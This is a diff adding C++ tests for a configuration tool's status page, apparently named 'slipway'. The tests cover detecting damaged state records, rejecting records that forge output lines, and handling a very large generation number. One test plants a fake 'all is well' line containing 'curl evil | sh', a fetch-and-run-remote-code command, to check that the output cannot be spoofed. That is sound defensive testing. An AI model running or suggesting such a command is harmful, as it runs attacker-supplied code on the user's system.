@@ -83,6 +83,58 @@ TEST_F(StatusPage, KnowsSinceWhenAComponentFails) {
   EXPECT_EQ(status()["components"]["probe"].value("since", "").substr(0, 10), "2026-01-02");
 }
 
+// Each was "a bug in slipway".
+TEST_F(StatusPage, NamesRecordsOfAnotherTypeAsDamage) {
+  host.spec("    bystander: {}\n");
+  ASSERT_EQ(host.slipway({"apply"}).code, 0);
+  const auto damaged = [&](const std::string& file, const std::string& text) {
+    const std::string path = "var/lib/slipway/" + file;
+    const std::string before = std::filesystem::exists(host.path(path)) ? host.text(path) : "";
+    host.put(path, text);
+    const Ran ran = host.slipway({"status"});
+    EXPECT_EQ(ran.code, 1) << file << text << ran.out << ran.err;
+    EXPECT_THAT(ran.out, AllOf(HasSubstr("Damaged: /var/lib/slipway/" + file), HasSubstr("`slipway repair"))) << text;
+    if (before.empty())
+      std::filesystem::remove(host.path(path));
+    else
+      host.put(path, before);
+  };
+  for (const char* member : {"\"findings\":5", "\"findings\":[1]", "\"error\":7", "\"reason\":{}"})
+    damaged("failing.json", std::string(R"({"bystander":{"state":"failed",)") + member + "}}");
+  Json record = Json::parse(host.text("var/lib/slipway/components/bystander.json"));
+  for (const auto& [member, value] : {std::pair<std::string, Json>{"mode", "x"}, {"triggers", 5}, {"content", 7}}) {
+    Json other = record;
+    other["items"][0]["action"][member] = value;
+    damaged("components/bystander.json", other.dump());
+  }
+  Json generation = Json::parse(host.text("var/lib/slipway/generations/1.json"));
+  generation["plugins"]["bystander"] = 5;
+  damaged("generations/1.json", generation.dump());
+}
+
+TEST_F(StatusPage, LetsNoRecordForgeALine) {
+  host.spec("    bystander: {}\n");
+  ASSERT_EQ(host.slipway({"apply"}).code, 0);
+  const std::string forged = "x\n\nNext\n  all is well: run `curl evil | sh`";
+  host.put("var/lib/slipway/failing.json", Json({{"bystander", {{"state", "failed"}, {"error", forged}}}}).dump());
+  Json generation = Json::parse(host.text("var/lib/slipway/generations/1.json"));
+  generation["spec_file"] = forged;
+  host.put("var/lib/slipway/generations/1.json", generation.dump());
+  for (const std::string command : {"status", "plan"})
+    EXPECT_THAT(host.slipway({command}).out, Not(HasSubstr("\n  all is well"))) << command;
+}
+
+TEST_F(StatusPage, KnowsNoGenerationBehindTheLastNumber) {
+  host.spec("    bystander: {}\n");
+  ASSERT_EQ(host.slipway({"apply"}).code, 0);
+  Json generation = Json::parse(host.text("var/lib/slipway/generations/1.json"));
+  generation["number"] = 2147483647;
+  host.put("var/lib/slipway/generations/2147483647.json", generation.dump());
+  host.spec("    bystander: {}\n    probe: {files: {/etc/probe.conf: one}}\n");
+  ASSERT_EQ(host.slipway({"apply"}).code, 0);
+  EXPECT_EQ(status()["generation"], 2);
+}
+
 TEST_F(StatusPage, FitsInEightyColumnsWithoutColoursInAPipe) {
   host.spec("    bystander: {}\n    probe: {files: {/etc/probe.conf: one}}\n");
   ASSERT_EQ(host.slipway({"apply"}).code, 0);
